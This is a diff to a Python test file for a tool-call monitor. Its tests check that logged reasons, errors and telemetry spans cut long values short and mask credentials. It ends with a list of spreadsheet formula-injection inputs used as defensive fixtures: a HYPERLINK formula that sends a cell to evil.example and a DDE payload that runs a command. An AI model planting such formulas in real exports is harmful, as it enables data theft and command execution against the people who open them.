@@ -456,13 +456,54 @@ class TestOptInCapture:
 
     async def test_log_reasons_are_opt_in_and_bounded(self, channels: Channels) -> None:
         """LiveLog quotes reasons only with include_reasons=True, and quoted values are cut short."""
-        monitor = Monitor(secret_tools(), policy="block", observers=[LiveLog(include_reasons=True)])
+        monitor = Monitor(secret_tools(), policy="block", observers=[LiveLog(include_reasons=True, log_calls=True)])
         async with monitor.episode(task_id="t") as ep:
             with pytest.raises(ToolBlocked):
                 await ep.call("transfer", {"account_id": CANARY * 1000, "memo": "m"})
+            with pytest.raises(PermissionError):
+                await ep.call("explode", {"key": CANARY * 10_000})  # the tool's own message quotes it whole
         lines = [json.loads(line) for line in channels.log_stream.getvalue().splitlines()]
-        reasons = [e["reason"] for e in lines if "reason" in e]
-        assert reasons and all(CANARY in r and len(r) < 500 for r in reasons)
+        cap = 2000 + len("...[999999 more chars]")
+        quoted = {e["tool"]: e for e in lines if "reason" in e}
+        assert CANARY in quoted["transfer"]["reason"] and len(quoted["transfer"]["reason"]) < 500  # values quoted short
+        explode = quoted["explode"]  # the tool's message, cut by the log
+        assert CANARY in explode["error"] and max(len(explode["error"]), len(explode["reason"])) <= cap
+
+    async def test_capture_masks_credentials_unless_told_not_to(self, channels: Channels) -> None:
+        """``capture_content=True`` alone masks credential keys (and their values wherever the call quotes them)."""
+        for redact, leaks in (("secrets", False), (None, True)):
+            channels.spans.clear()
+            monitor = Monitor(secret_tools(), policy="block", observers=channels.observers(capture_content=True, redact=redact))
+            async with monitor.episode(task_id="t") as ep:
+                assert (await ep.call("find_account", {"owner": "ada"}))["token"] == CANARY  # masked in the result
+                assert await ep.call("login", {"password": CANARY}) == f"session for {CANARY}"  # the text result quotes it
+            text = channels.text()
+            assert (CANARY in text) is leaks, redact
+        default = Telemetry(capture_content=True)
+        assert default.redact is not None and default.redact("arguments", {"api_key": CANARY}) == {"api_key": "[REDACTED]"}
+
+    async def test_masked_argument_values_are_masked_in_reasons_errors_and_results(self, channels: Channels) -> None:
+        """The keys a user names are masked wherever the call's own texts quote their values, on spans and in logs."""
+        redact = redact_keys("memo", "key", "phone", "token")
+        observers = [
+            Telemetry(tracer_provider=channels.tracer_provider, capture_content=True, redact=redact),
+            LiveLog(include_reasons=True, log_calls=True, redact=redact),
+        ]
+        monitor = Monitor(secret_tools(), policy="block", observers=observers)
+        async with monitor.episode(task_id="t") as ep:
+            await ep.call("find_account", {"owner": "ada"})
+            with pytest.raises(ToolBlocked):  # a precondition's message quotes the memo
+                await ep.call("transfer", {"account_id": "acc-1", "memo": CANARY})
+            with pytest.raises(ToolBlocked):  # the grounding reason quotes the phone number
+                await ep.call("pay", {"phone": CANARY + "-0", "amount": 1.5})
+            await ep.call("fetch", {"key": CANARY})  # an error result that echoes it
+            with pytest.raises(PermissionError):  # the tool's exception quotes it
+                await ep.call("explode", {"key": CANARY})
+        assert CANARY not in channels.text()
+        attrs = [dict(s.attributes or {}) for s in channels.spans.get_finished_spans()]
+        quoted = [str(a[k]) for a in attrs for k in (sc.PREFIXMON_REASON, sc.PREFIXMON_ERROR) if k in a]
+        assert len(quoted) >= 4 and all("[REDACTED]" in q for q in quoted), quoted
+        assert channels.log_stream.getvalue().count("[REDACTED]") >= 4
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tindent", "\rreturn"]
